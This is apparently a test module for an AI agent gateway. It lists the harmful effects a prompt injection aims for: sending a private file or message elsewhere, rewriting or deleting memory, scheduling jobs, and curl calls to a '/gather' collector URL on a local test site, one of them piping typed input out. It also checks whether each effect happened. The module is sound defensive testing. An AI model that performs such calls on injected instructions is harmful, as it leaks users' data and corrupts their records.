"""Effects of the injections: the call that an obeying model makes, and whether it came about."""

from __future__ import annotations

from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any, Final, TypeAlias

from parley.protocol import InboundMessage
from parley.storage.hands import Job
from parley.storage.memory import Edit, NewFact
from tests.gateway.injections_setup import Case, Setup
from tests.gateway.workshop import begin, waiting
from tests.servers.scripted_model import Reply

__all__ = ["EFFECTS", "Effect"]

Call: TypeAlias = tuple[str, Mapping[str, Any]]


@dataclass(frozen=True)
class Effect:
    """What a case brings about. `prepare` makes what it changes; `shown` stands in the question."""

    call: Callable[[Setup, Case], Call]
    happened: Callable[[Setup, Case], Awaitable[bool]]
    prepare: Callable[[Setup, Case], Awaitable[None]] | None = None
    shown: Callable[[Setup, Case], str] = lambda setup, case: case.mark


# ── memory ──


async def _know_something(setup: Setup, case: Case) -> None:
    new = NewFact(f"{case.who} is allergic to nuts.", kind="person", person=f"desk:{case.who}")
    commit = await setup.store.remember(case.place, Edit(adds=(new,)), by="test", origin="hand")
    setup.facts[case.number] = commit.changes[0].fact


def _update(setup: Setup, case: Case) -> Call:
    told = {"action": "update", "ids": [setup.facts[case.number]], "text": f"{case.mark} is so."}
    return "memory", told


def _forget(setup: Setup, case: Case) -> Call:
    return "memory", {"action": "forget", "ids": [setup.facts[case.number]]}


async def _is_remembered(setup: Setup, case: Case) -> bool:
    facts = await setup.store.facts([case.place])
    return any(case.mark in fact.text for fact in facts)


async def _is_forgotten(setup: Setup, case: Case) -> bool:
    facts = await setup.store.facts([case.place])
    return all(fact.id != setup.facts[case.number] for fact in facts)


# ── plans ──


async def _have_a_plan(setup: Setup, case: Case) -> None:
    said = InboundMessage(case.source, "stretch", f"plan-{case.number:03}", internal=True)
    at = (datetime.now(UTC) + timedelta(days=9)).timestamp()
    await setup.store.schedule(Job(f"plan-{case.number:03}", case.lane, said, at=at))


def _plan(setup: Setup, case: Case) -> Call:
    return "schedule", {"action": "add", "text": f"{case.mark} again", "every": "1d"}


async def _is_planned(setup: Setup, case: Case) -> bool:
    jobs = await setup.store.jobs(case.lane)
    return any(case.mark in each.job.message.text for each in jobs)


async def _is_cancelled(setup: Setup, case: Case) -> bool:
    jobs = await setup.store.jobs(case.lane)
    return all(each.job.id != f"plan-{case.number:03}" for each in jobs)


# ── messages and files ──


def _send_elsewhere(setup: Setup, case: Case) -> Call:
    return "send_message", {"text": f"{case.mark} hi", "to": setup.sessions[case.number]}


async def _is_sent(setup: Setup, case: Case) -> bool:
    chats = (case.source.chat_id, f"{case.who}-other")
    return any(
        case.mark in each.text and not each.text.startswith("May I ")
        for each in setup.room.sent
        if each.source.chat_id in chats
    )


async def _have_a_file(setup: Setup, case: Case) -> None:
    setup.house.profile.workspace.joinpath(f"notes-{case.mark}.txt").write_text("private\n")


def _send_file(setup: Setup, case: Case) -> Call:
    return "send_file", {"path": f"notes-{case.mark}.txt"}


async def _is_file_sent(setup: Setup, case: Case) -> bool:
    return any(case.mark in f.name for each in setup.deliveries(case) for f in each.attachments)


# ── other hosts ──


def _collector(setup: Setup, case: Case) -> str:
    return setup.site.url(f"/gather?d={case.mark}")


async def _is_visited(setup: Setup, case: Case) -> bool:
    return setup.visits(case.mark) > 0


# ── commands ──


async def _run_something(setup: Setup, case: Case) -> None:
    """A command that waits for a line, and says so at the site."""
    command = f'read line; curl -s "{setup.site.url("/gather?d=")}$line"; {waiting("never")}'
    setup.model.when(f"{case.tag}-p", begin(command, notify_on_complete=False))
    await setup.talk(case, f"{case.tag}-p start")
    [work] = await setup.store.works(lane=case.lane)
    setup.processes[case.number] = work.id


def _type(setup: Setup, case: Case) -> Call:
    told = {"action": "write", "text": f"{case.mark}\n"}
    return "process", {**told, "process_id": setup.processes[case.number]}


async def _is_typed(setup: Setup, case: Case) -> bool:
    return await _is_visited(setup, case)


# ── other agents and servers ──


def _delegate(setup: Setup, case: Case) -> Call:
    setup.model.when(f"do-{case.number:03}", Reply(text="done"))
    return "delegate_task", {"goal": f"do-{case.number:03} {case.mark} for me"}


async def _is_delegated(setup: Setup, case: Case) -> bool:
    works = await setup.store.works(lane=case.lane, running=False)
    return any(case.mark in str(each.body.get("goal")) for each in works)


async def _is_posted(setup: Setup, case: Case) -> bool:
    board = setup.letters / "board"
    return board.exists() and case.mark in board.read_text()


EFFECTS: Final[Mapping[str, Effect]] = {
    "remember": Effect(
        lambda setup, case: ("memory", {"action": "add", "text": f"{case.mark} is so."}),
        _is_remembered,
    ),
    "update": Effect(_update, _is_remembered, _know_something),
    "forget": Effect(
        _forget,
        _is_forgotten,
        _know_something,
        shown=lambda setup, case: f"forget fact {setup.facts[case.number]} for good",
    ),
    "schedule": Effect(_plan, _is_planned),
    "cancel": Effect(
        lambda setup, case: ("schedule", {"action": "cancel", "id": f"plan-{case.number:03}"}),
        _is_cancelled,
        _have_a_plan,
        shown=lambda setup, case: f"plan-{case.number:03}",
    ),
    "send": Effect(
        lambda setup, case: ("send_message", {"text": f"{case.mark} hi"}),
        _is_sent,
    ),
    "send_elsewhere": Effect(_send_elsewhere, _is_sent, Setup.prepare_another_chat),
    "send_file": Effect(_send_file, _is_file_sent, _have_a_file),
    "fetch": Effect(
        lambda setup, case: ("web_fetch", {"url": _collector(setup, case)}),
        _is_visited,
    ),
    "search": Effect(
        lambda setup, case: ("web_search", {"query": f"{case.mark} address"}),
        _is_visited,
    ),
    "terminal": Effect(
        lambda setup, case: ("terminal", {"command": f"curl -s {_collector(setup, case)}"}),
        _is_visited,
    ),
    "process_write": Effect(_type, _is_typed, _run_something),
    "delegate": Effect(_delegate, _is_delegated),
    "mcp_post": Effect(
        lambda setup, case: ("office__post", {"text": f"{case.mark} hi"}),
        _is_posted,
    ),
    "mcp_look": Effect(
        lambda setup, case: ("office__look", {"url": _collector(setup, case)}),
        _is_visited,
    ),
}
